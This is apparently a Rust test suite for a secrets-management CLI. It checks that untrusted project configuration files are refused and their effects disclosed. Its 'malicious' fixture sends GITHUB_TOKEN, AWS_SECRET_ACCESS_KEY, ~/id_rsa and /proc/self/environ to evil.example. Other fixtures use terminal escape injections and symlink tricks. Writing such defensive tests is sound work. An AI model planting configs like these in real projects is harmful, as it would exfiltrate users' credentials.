//! A project file is treated as hostile until the user trusts it.

use std::fs;
use std::io::Write as _;
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::process::Stdio;

use crate::world::World;

/// A value that no untrusted file may receive.
const CANARY: &str = "canary-4f1c2d";

/// Every command that uses the configuration, with arguments that would have an effect.
const COMMANDS: [&[&str]; 20] = [
    &["set", "a"],
    &["get", "a"],
    &["list"],
    &["list", "--deleted"],
    &["rm", "--yes", "a"],
    &["recover", "a"],
    &["purge", "--yes", "a"],
    &["rotate", "a"],
    &["import", ".env"],
    &["export"],
    &["run", "--scope", "org:acme", "--", "touch", "ran"],
    &["run", "--env", "A=a", "--", "touch", "ran"],
    &["validate"],
    &["rekey"],
    &["key", "add", "next"],
    &["key", "list"],
    &["key", "retire", "k"],
    &["migrate", "--from", "p", "--to", "q"],
    &["diff", "p", "q"],
    &["doctor"],
];

/// A project file that would send everything it can name to a server.
fn malicious(world: &World, address: &str) -> String {
    world.write("home/id_rsa", CANARY);
    world.write("project/.env", "A=1\n");
    let home = world.path("home");
    let text = format!(
        "profile = \"p\"\n\n[profiles.p]\nbackend = \"vault\"\naddress = \"{address}\"\nallow_http = true\n\
         auth_method = {{ token = {{ token = {{ env = \"GITHUB_TOKEN\" }} }} }}\n\
         ca_cert = \"~/ca.pem\"\n\
         [profiles.q]\nbackend = \"vault\"\naddress = \"{address}\"\nallow_http = true\n\
         auth_method = {{ token = {{ token = {{ file = \"{0}/id_rsa\" }} }} }}\n\
         [profiles.r]\nbackend = \"local\"\nbase_path = \"{0}/store-of-attacker\"\n\
         [profiles.s]\nbackend = \"k8s\"\nkubeconfig_path = \"kube.yaml\"\n\
         [rings.main]\nactive = \"k\"\nkeys.k = {{ file = \"/proc/self/environ\" }}\n\
         [rings.other]\nactive = \"k\"\nkeys.k = {{ passphrase = {{ env = \"AWS_SECRET_ACCESS_KEY\" }} }}\n",
        home.display()
    );
    fs::write(world.path("project/cred.toml"), &text).unwrap();
    text
}

#[test]
fn every_command_rejects_an_untrusted_file_and_shows_its_effects() {
    let mut world = World::empty();
    world.set("GITHUB_TOKEN", CANARY);
    malicious(&world, "https://user:pw@evil.example:8200/path?query");
    for args in COMMANDS {
        let output =
            world.run_with(args, CANARY).exits_with(3).stderr_has("is not trusted").stderr_has("cred trust");
        for effect in [
            "profile p: backend vault, at https://evil.example:8200",
            "profile r: backend local",
            "reads the variables AWS_SECRET_ACCESS_KEY, GITHUB_TOKEN",
            "/proc/self/environ",
            "~/ca.pem",
            "id_rsa",
            "kube.yaml",
            "may run the `exec` plugin of a kubeconfig",
        ] {
            assert!(output.err.contains(effect), "{args:?}: {effect} is not in: {}", output.err);
        }
        assert!(!output.err.contains(CANARY) && !output.err.contains("query"), "{}", output.err);
    }
    assert!(!world.path("home/store-of-attacker").exists() && !world.path("project/ran").exists());
    let json = world.run(&["list", "--json"]).exits_with(3).error();
    assert!(json["effects"].as_array().unwrap().len() > 5, "{json}");
    let offline = world.run(&["doctor", "--offline"]);
    assert!(offline.out.contains("not trusted") && offline.out.contains("evil.example"), "{}", offline.out);
}

/// Nothing that an untrusted file names is opened, contacted or started.
#[test]
#[ignore = "needs strace: cargo xtask ci"]
fn an_untrusted_file_opens_no_file_no_socket_and_no_program() {
    let mut world = World::empty();
    world.set("GITHUB_TOKEN", CANARY);
    let server = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    server.set_nonblocking(true).unwrap();
    malicious(&world, &format!("http://{}", server.local_addr().unwrap()));
    for args in COMMANDS {
        let trace = world.path("tmp/trace");
        let mut strace = std::process::Command::new("strace");
        strace.args(["-f", "-qq", "-s", "4096", "-e", "trace=%file,%network,execve", "-o"]).arg(&trace);
        strace.arg(env!("CARGO_BIN_EXE_cred")).args(args);
        strace.env_clear().envs(world.variables()).current_dir(world.path("project"));
        let status = strace.stdin(Stdio::null()).stderr(Stdio::null()).status().unwrap();
        assert_eq!(status.code(), Some(3), "{args:?}");
        let trace = fs::read_to_string(trace).unwrap();
        let expected = ["project/cred.toml", "trusted.json"];
        for line in trace.lines().filter(|line| !line.contains("execve(")) {
            assert!(!line.contains("connect(") && !line.contains("AF_INET"), "{args:?}: {line}");
            let names_a_file = ["id_rsa", "environ", "store-of", "ca.pem", "kube.yaml", ".env", "/keys"];
            let is_named = names_a_file.iter().any(|name| line.contains(name));
            assert!(!is_named || expected.iter().any(|name| line.contains(name)), "{args:?}: {line}");
        }
        assert_eq!(trace.matches("execve(").count(), 1, "{args:?}: {trace}");
        assert!(trace.contains("cred.toml"), "the trace is empty");
    }
    assert!(server.accept().is_err(), "the program connected to the server");
}

#[test]
fn a_trusted_file_is_used_until_it_changes() {
    let mut world = World::new();
    world.store("a", "1");
    let record = world.path("home/.config/cred/trusted.json");
    assert_eq!(fs::metadata(&record).unwrap().permissions().mode() & 0o777, 0o600);
    let list = world.run(&["trust", "--list"]).success().out;
    assert!(list.contains("project/cred.toml"), "{list}");

    let text = world.read("project/cred.toml");
    fs::write(world.path("project/cred.toml"), text.clone() + "# changed\n").unwrap();
    world.run(&["get", "a"]).exits_with(3).stderr_has("has changed since");
    world.run(&["trust"]).success().stderr_has("Trusted");
    assert_eq!(world.value("a"), "1");
    world.run(&["trust", "--revoke"]).success();
    world.run(&["trust", "--revoke"]).exits_with(4);
    world.run(&["get", "a"]).exits_with(3);
    world.run(&["trust", "--sha256", &"0".repeat(64)]).exits_with(3);
    world.run(&["get", "a"]).exits_with(3);

    let hash = world.run(&["trust", "--json"]).success().json()["sha256"].as_str().unwrap().to_owned();
    world.run(&["trust", "--revoke"]).success();
    world.set("CRED_TRUST", &hash);
    assert_eq!(world.value("a"), "1");
    fs::write(world.path("project/cred.toml"), text).unwrap();
    world.run(&["get", "a"]).exits_with(3);
    // The same contents in another folder are another file.
    world.run(&["trust"]).success();
    fs::create_dir(world.path("project/copy")).unwrap();
    fs::copy(world.path("project/cred.toml"), world.path("project/copy/cred.toml")).unwrap();
    let mut copy = world.command(&["get", "a"]);
    assert_eq!(copy.current_dir(world.path("project/copy")).output().unwrap().status.code(), Some(3));
}

#[test]
fn commands_that_change_the_file_keep_it_trusted() {
    let world = World::new();
    world.store("a", "1");
    let first = world.key_id();
    world.run(&["key", "add", "next"]).success();
    world.run(&["rekey"]).success();
    world.run(&["key", "retire", &first]).success();
    assert_eq!(world.value("a"), "1");
    // An edit does not make an untrusted file trusted.
    let text = world.read("project/cred.toml") + "# of an attacker\n";
    fs::write(world.path("project/cred.toml"), text).unwrap();
    world.run(&["key", "add", "third"]).exits_with(3);
    world.run(&["get", "a"]).exits_with(3);
}

/// Otherwise a credential for the user's profile would be sealed under a key of the project.
#[test]
fn a_project_cannot_redefine_a_profile_or_a_ring_of_the_user() {
    let world = World::empty();
    world.run(&["init", "--user", "--name", "production"]).success();
    for table in [
        "[profiles.production]\nbackend = \"local\"\nbase_path = \"/x\"\n",
        "[rings.user]\nactive = \"k\"\nkeys.k = { env = \"K\" }\n",
    ] {
        world.write("project/cred.toml", table);
        for args in [&["set", "a", "-p", "production"][..], &["list"], &["key", "list"]] {
            let output = world.run_with(args, "1").exits_with(3);
            for name in ["project/cred.toml", ".config/cred/cred.toml", "cannot redefine"] {
                assert!(output.err.contains(name), "{}", output.err);
            }
        }
    }
    fs::remove_file(world.path("project/cred.toml")).unwrap();
    // A profile of the user does not use a ring of the project either.
    let user = world.read("home/.config/cred/cred.toml").replace("ring = \"user\"", "ring = \"theirs\"");
    world.write("home/.config/cred/cred.toml", &user);
    world.write("project/cred.toml", "[rings.theirs]\nactive = \"k\"\nkeys.k = { env = \"K\" }\n");
    world
        .run_with(&["set", "a", "-p", "production"], "1")
        .exits_with(3)
        .stderr_has("unknown key ring `theirs`");
}

#[test]
fn init_chooses_names_that_differ_from_the_users_file() {
    let world = World::empty();
    world.run(&["init", "--user", "--name", "dev"]).success();
    world.run(&["init", "--name", "dev"]).exits_with(2).stderr_has("already has a profile `dev`");
    world.run(&["init"]).success();
    world.run_with(&["set", "a"], "1").success().stderr_has("in dev-2 of ").stderr_has("project/cred.toml");
}

#[test]
fn an_unsafe_project_file_is_rejected_and_never_skipped() {
    let world = World::empty();
    world.run(&["init", "--user"]).success();
    let path = world.path("project/cred.toml");
    symlink("/not/mounted/cred.toml", &path).unwrap();
    world.run_with(&["set", "a"], "1").exits_with(3).stderr_has("is a link");
    world.run(&["trust"]).exits_with(3);
    fs::remove_file(&path).unwrap();
    fs::create_dir(&path).unwrap();
    world.run_with(&["set", "a"], "1").exits_with(3).stderr_has("is not a regular file");
    fs::remove_dir(&path).unwrap();

    world.run(&["init"]).success();
    world.run_with(&["set", "a"], "1").success();
    let mode = |place: &str, mode| {
        fs::set_permissions(world.path(place), fs::Permissions::from_mode(mode)).unwrap();
    };
    mode("project/cred.toml", 0o664);
    world.run(&["get", "a"]).exits_with(3).stderr_has("chmod go-w");
    mode("project/cred.toml", 0o644);
    mode("project", 0o775);
    world.run(&["get", "a"]).exits_with(3).stderr_has("in a folder that other users can write");
    // A folder that all users share, such as /tmp, is not searched at all.
    mode("project", 0o1777);
    world.run(&["get", "a"]).exits_with(4).stderr_has("profile `user`");
    mode("project", 0o755);
    assert_eq!(world.value("a"), "1");
}

#[test]
fn secrets_provided_by_a_platform_are_accepted_with_a_setting_of_the_user() {
    let world = World::new();
    world.store("a", "1");
    let key = world.key_file();
    fs::set_permissions(&key, fs::Permissions::from_mode(0o444)).unwrap();
    world.run(&["get", "a"]).exits_with(8).stderr_has("shared_secrets = true").stderr_has("mode 0444");
    let text = world.read("project/cred.toml");
    let setting = "[files]\nshared_secrets = true\n";
    world.write("project/cred.toml", &format!("{text}{setting}"));
    world.run(&["get", "a"]).exits_with(3).stderr_has("is only allowed in the user's file");
    world.write("project/cred.toml", &text);
    world.write("home/.config/cred/cred.toml", setting);
    assert_eq!(world.value("a"), "1");
    world.write("project/named.toml", &format!("{text}{setting}"));
    fs::remove_file(world.path("home/.config/cred/cred.toml")).unwrap();
    assert_eq!(world.run(&["--config", "named.toml", "get", "a"]).success().out, "1");
    fs::set_permissions(&key, fs::Permissions::from_mode(0o666)).unwrap();
    world
        .run(&["--config", "named.toml", "get", "a"])
        .exits_with(8)
        .stderr_has("can be written by other users");
}

#[test]
fn a_key_can_be_read_from_a_pipe() {
    let world = World::new();
    world.store("a", "1");
    let key = fs::read(world.key_file()).unwrap();
    let text = world.read("project/cred.toml").replace(&world.key_file(), "/dev/stdin");
    world.write("project/cred.toml", &text);
    let mut get = world.command(&["get", "a"]).stdin(Stdio::piped()).spawn().unwrap();
    get.stdin.take().unwrap().write_all(&key).unwrap();
    assert_eq!(crate::world::CommandOutput::of(get).success().out, "1");
}

/// A file that controls the terminal could forge its output.
#[test]
fn no_text_of_a_file_controls_the_terminal() {
    let world = World::empty();
    let names = ["a\\u001b[2Jb", "\\u202Eevil", "a\\nok  keys: all is well", "a b", "", "é", &"x".repeat(65)];
    for name in names {
        let text = format!("[profiles.\"{name}\"]\nbackend = \"local\"\nbase_path = \"/x\"\n");
        fs::write(world.path("project/cred.toml"), text).unwrap();
        for args in [&["trust"][..], &["doctor", "--offline"], &["doctor"], &["list"]] {
            let output = world.run(args);
            let shown = output.out.clone() + &output.err;
            let controls = |letter: char| letter != '\n' && letter.is_control() || letter == '\u{202e}';
            assert!(!shown.chars().any(controls) && !shown.contains("\nok  keys"), "{args:?}: {shown:?}");
            assert!(output.code != 0, "{name}: {args:?}: {shown}");
        }
    }
    fs::write(
        world.path("project/cred.toml"),
        "[profiles.p]\nbackend = \"vault\"\naddress = \"https://a\\u001b]0;x\\u0007\\n\\u202E/\"\n\
         ca_cert = \"/x\\r\\nok  keys: all is well\"\n[rings.r]\nactive = \"k\"\nkeys.k = { env = \"\\u009b31m\" }\n",
    )
    .unwrap();
    for args in [&["list"][..], &["doctor", "--offline"], &["trust"]] {
        let output = world.run(args);
        let shown = output.out.clone() + &output.err;
        assert!(!shown.chars().any(|letter| letter != '\n' && letter.is_control()), "{shown:?}");
        assert!(!shown.contains("\nok  keys") && shown.contains("\\u{1b}"), "{shown:?}");
    }
}

/// Otherwise the relative paths of the trusted file would be used in the folder of the clone.
#[test]
fn a_link_to_a_trusted_file_is_not_trusted() {
    let world = World::new();
    world.store("a", "1");
    fs::create_dir(world.path("clone")).unwrap();
    symlink("../project/cred.toml", world.path("clone/cred.toml")).unwrap();
    let mut get = world.command(&["get", "a"]);
    let output = get.current_dir(world.path("clone")).spawn().unwrap();
    crate::world::CommandOutput::of(output).exits_with(3).stderr_has("is a link");
}

/// `git pull` can change these files as well as the file itself.
#[test]
fn trust_covers_the_files_of_the_project_that_the_file_names() {
    let world = World::new();
    world.store("a", "1");
    let key = fs::read_to_string(world.key_file()).unwrap();
    let text = world.read("project/cred.toml").replace(&world.key_file(), "main.key");
    fs::write(world.path("project/main.key"), &key).unwrap();
    fs::set_permissions(world.path("project/main.key"), fs::Permissions::from_mode(0o600)).unwrap();
    world.write("project/cred.toml", &text);
    assert_eq!(world.value("a"), "1");
    let other = "AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=\n";
    fs::write(world.path("project/main.key"), other).unwrap();
    world.run_with(&["set", "a"], "2").exits_with(3).stderr_has("has changed since");
    // Other users may read this hash, so it must not help to guess a secret.
    let hash = |world: &World| world.run(&["trust", "--json"]).success().json()["sha256"].clone();
    let before = hash(&world);
    fs::write(world.path("project/main.key"), &key).unwrap();
    assert_eq!(hash(&world), before);
    assert_eq!(world.value("a"), "1");
}

/// A kubeconfig names certificates, tokens and programs, and every path can be written in many
/// ways.
#[test]
fn trust_covers_a_file_of_the_project_however_its_path_is_written() {
    let mut world = World::empty();
    fs::create_dir_all(world.path("home/.config")).unwrap();
    symlink("../project", world.path("home/link")).unwrap();
    let kubeconfig = "users: [{name: u, user: {exec: {command: ./helper.sh, args: [\"sub/x\"]}}}]\n";
    fs::create_dir(world.path("project/sub")).unwrap();
    for (name, text) in [("kube.yaml", kubeconfig), ("helper.sh", "1"), ("sub/x", "1"), ("ca.pem", "1")] {
        fs::write(world.path("project").join(name), text).unwrap();
    }
    // The backend need not be built in, because trust is checked first.
    let is_trusted = |world: &World| !world.run(&["list"]).err.contains("so it was not used");
    for path in
        ["kube.yaml", "./kube.yaml", "../project/kube.yaml", "/proc/self/cwd/kube.yaml", "~/link/kube.yaml"]
    {
        let text = format!(
            "[profiles.k]\nbackend = \"k8s\"\nkubeconfig_path = \"{path}\"\n\
             [profiles.v]\nbackend = \"vault\"\nca_cert = \"ca.pem\"\n"
        );
        for changed in ["kube.yaml", "helper.sh", "sub/x", "ca.pem"] {
            let place = format!("project/{changed}");
            let before = world.read(&place);
            world.write("project/cred.toml", &text);
            assert!(is_trusted(&world), "{path}");
            fs::write(world.path(&place), before.clone() + "\n").unwrap();
            assert!(!is_trusted(&world), "{path}: {changed}");
            fs::write(world.path(&place), before).unwrap();
            assert!(is_trusted(&world), "{path}: {changed}");
        }
    }
    // An escape could hide a name.
    world.write("project/kube.yaml", "users: [{user: {exec: {command: \"\\x2e/helper.sh\"}}}]\n");
    world.run(&["trust"]).exits_with(3).stderr_has("backslash");
    world.write("project/kube.yaml", kubeconfig);

    // The same project in another folder has the same hash, which a pipeline can pin.
    let hash = world.run(&["trust", "--json"]).success().json()["sha256"].as_str().unwrap().to_owned();
    world.run(&["trust", "--revoke"]).success();
    fs::rename(world.path("project"), world.path("moved")).unwrap();
    symlink("moved", world.path("project")).unwrap();
    world.set("CRED_TRUST", &format!("{},{hash}", hash.split(':').next().unwrap()));
    assert!(is_trusted(&world));
    world.set("CRED_TRUST", hash.split(':').next().unwrap());
    assert!(!is_trusted(&world), "the hash of the text alone is not enough");
}

#[test]
fn a_relative_path_in_a_variable_is_rejected() {
    let mut world = World::new();
    let store = world.path("home/.local/share/cred/project").to_string_lossy().into_owned();
    let text = world.read("project/cred.toml").replace(&format!("\"{store}\""), "{ env = \"STORE\" }");
    world.write("project/cred.toml", &text);
    world.set("STORE", &store);
    world.store("a", "1");
    world.set("STORE", "xterm");
    world.run(&["list"]).exits_with(3).stderr_has("must be absolute");
}

/// A change during a prompt has not been checked.
#[test]
fn an_edit_does_not_trust_concurrent_changes() {
    let world = World::new();
    fs::write(world.path("project/ca.pem"), "1").unwrap();
    let more = "[profiles.v]\nbackend = \"vault\"\nca_cert = \"ca.pem\"\n";
    world.write("project/cred.toml", &(world.read("project/cred.toml") + more));
    let mut terminal = crate::terminal::Terminal::start(&world, &["key", "add", "pw", "--passphrase"]);
    terminal.expect("Passphrase of pw: ");
    fs::write(world.path("project/ca.pem"), "of an attacker").unwrap();
    terminal.type_keys("correct horse\r");
    terminal.expect("Repeat the passphrase: ");
    terminal.type_keys("correct horse\r");
    assert!(terminal.exits_with(3).contains("changed in the meantime"));
    world.run(&["list"]).exits_with(3);
}

#[test]
fn use_of_the_users_profiles_and_every_destination_of_data_is_shown() {
    let world = World::empty();
    world.run(&["init", "--user"]).success();
    fs::write(
        world.path("project/cred.toml"),
        "profile = \"user\"\n[profiles.a]\nbackend = \"vault\"\naddress = \"http:evil.example\"\nring = \"user\"\n\
         namespace = \"other\"\nallow_http = true\n[profiles.b]\nbackend = \"aws\"\nregion = \"x.evil.example#\"\n\
         kms_key_id = \"arn:theirs\"\nring = \"own\"\ndefault_tags = { team = \"theirs\" }\n\
         [rings.own]\nactive = \"k\"\nkeys.k = { passphrase = \"prompt\" }\n",
    )
    .unwrap();
    let output = world.run(&["list"]).exits_with(3);
    for effect in [
        "chooses YOUR profile user",
        "profile a: sealed with YOUR ring user",
        "at the unusual address `http:evil.example`",
        "namespace other",
        "allow_http true",
        "region x.evil.example#",
        "kms_key_id arn:theirs",
        "default_tags team=theirs",
        "the `credential_process` of an AWS profile",
        "asks you for a passphrase",
    ] {
        assert!(output.err.contains(effect), "{effect} is not in: {}", output.err);
    }
}

#[test]
fn a_link_on_the_way_to_a_file_does_not_keep_it_trusted() {
    let world = World::new();
    let text = world.read("project/cred.toml");
    symlink("project", world.path("link")).unwrap();
    fs::remove_file(world.path("project/cred.toml")).unwrap();
    world.run(&["trust", "--revoke", "../link/cred.toml"]).success();
    fs::write(world.path("project/cred.toml"), text).unwrap();
    world.run(&["list"]).exits_with(3);
}

#[test]
fn the_users_file_is_never_a_project_file() {
    let world = World::empty();
    fs::create_dir_all(world.path("home/dot/cred")).unwrap();
    fs::create_dir(world.path("home/.config")).unwrap();
    symlink("../dot/cred", world.path("home/.config/cred")).unwrap();
    world.run(&["init", "--user"]).success();
    let mut list = world.command(&["list"]);
    let output = list.current_dir(world.path("home/dot/cred")).spawn().unwrap();
    crate::world::CommandOutput::of(output).success();
}

#[test]
fn an_unusable_trust_record_only_stops_commands_that_need_it() {
    let world = World::new();
    world.store("a", "1");
    world.write("home/.config/cred/trusted.json", "{");
    world.run(&["get", "a"]).exits_with(3).stderr_has("trusted.json");
    assert_eq!(world.run(&["--config", "cred.toml", "get", "a"]).success().out, "1");
}

#[test]
fn init_rejects_a_folder_in_which_its_file_could_not_be_used() {
    let world = World::empty();
    for mode in [0o777, 0o1777] {
        fs::set_permissions(world.path("project"), fs::Permissions::from_mode(mode)).unwrap();
        world.run(&["init"]).exits_with(3).stderr_has("could not be used");
        assert!(!world.path("project/cred.toml").exists());
    }
}

#[test]
fn without_a_home_init_prints_the_hash_for_cred_trust() {
    let world = World::empty();
    let mut init = world.command(&["init", "--key-file", "key", "--store", "store", "--json"]);
    let output = crate::world::CommandOutput::of(init.env_remove("HOME").spawn().unwrap()).success();
    let hash = output.err.split("CRED_TRUST=").nth(1).unwrap().trim_end_matches(['"', '}', '\n']).to_owned();
    let mut list = world.command(&["list"]);
    list.env_remove("HOME").env("CRED_TRUST", hash);
    crate::world::CommandOutput::of(list.spawn().unwrap()).success();
}
